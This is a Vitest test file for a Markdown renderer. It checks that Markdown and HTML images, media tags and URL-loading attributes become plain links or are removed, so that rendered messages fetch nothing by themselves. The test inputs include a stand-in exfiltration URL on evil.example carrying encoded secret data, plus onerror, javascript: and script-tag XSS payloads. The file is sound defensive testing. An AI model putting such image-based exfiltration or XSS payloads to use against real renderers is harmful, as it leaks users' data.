// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown.js';

/** The rendered message as a DOM, as the page would hold it. */
function render(text: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderMarkdown(text);
  return container;
}

/** Every attribute value that would make the browser fetch something by itself. */
function fetchedUrls(container: HTMLElement): string[] {
  return [...container.querySelectorAll('*')].flatMap((element) =>
    ['src', 'srcset', 'poster', 'background', 'data']
      .map((name) => element.getAttribute(name))
      .filter((value): value is string => value !== null),
  );
}

describe(renderMarkdown.name, () => {
  it('renders a Markdown image as a link showing its alt text, and loads nothing', () => {
    const leak = 'https://evil.example/leak?d=%7B%22secret%22%3A1%7D';
    const container = render(`Here: ![the logo](${leak} "Logo")`);
    expect(container.querySelector('img')).toBeNull();
    expect(fetchedUrls(container)).toEqual([]);
    const link = container.querySelector('a');
    expect(link?.textContent).toBe('the logo');
    expect(link?.getAttribute('href')).toBe(leak);
    expect(link?.getAttribute('title')).toBe('Logo');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it('shows the URL of an image without alt text', () => {
    const container = render('![](https://evil.example/x.png)');
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a')?.textContent).toBe('https://evil.example/x.png');
  });

  it('turns HTML images into links too, keeping DOMPurify on the result', () => {
    const container = render(
      [
        '<img src="https://evil.example/a.png" alt="html image" onerror="alert(1)">',
        '<img src="javascript:alert(2)" alt="unsafe">',
        '<img src="data:image/png;base64,AAAA">',
        '<picture><source srcset="https://evil.example/b.png"><img src="https://evil.example/c.png" alt="in a picture"></picture>',
        '[![linked image](https://evil.example/d.png)](https://example.com/page)',
      ].join('\n\n'),
    );
    expect(container.querySelector('img, source, [onerror]')).toBeNull();
    expect(fetchedUrls(container)).toEqual([]);
    const links = [...container.querySelectorAll('a')].map((link) => [
      link.textContent,
      link.getAttribute('href'),
    ]);
    expect(links).toEqual([
      ['html image', 'https://evil.example/a.png'],
      ['in a picture', 'https://evil.example/c.png'],
      // Inside a link only the label is left: the outer link is what was meant to be clicked.
      ['linked image', 'https://example.com/page'],
    ]);
    expect(container.textContent).toContain('unsafe');
    expect(container.textContent).toContain('image');
  });

  it('removes media and the attributes that load a URL by themselves', () => {
    const container = render(
      [
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
        '<audio src="https://evil.example/a.mp3"><track src="https://evil.example/t.vtt"></audio>',
        '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">cell</td></tr></table>',
      ].join('\n\n'),
    );
    expect(container.querySelector('video, audio, track')).toBeNull();
    expect(fetchedUrls(container)).toEqual([]);
    expect(container.textContent).toContain('cell');
  });

  it('keeps ordinary Markdown and strips what DOMPurify always stripped', () => {
    const container = render(
      '**bold** and [a link](https://example.com)\n\n[x](javascript:alert(1))\n\n<script>alert(1)</script>',
    );
    expect(container.querySelector('strong')?.textContent).toBe('bold');
    expect(container.querySelector('script')).toBeNull();
    const hrefs = [...container.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    expect(hrefs).toEqual(['https://example.com', null]);
    expect(container.querySelector('a:not([href])')?.textContent).toBe('x');
  });
});
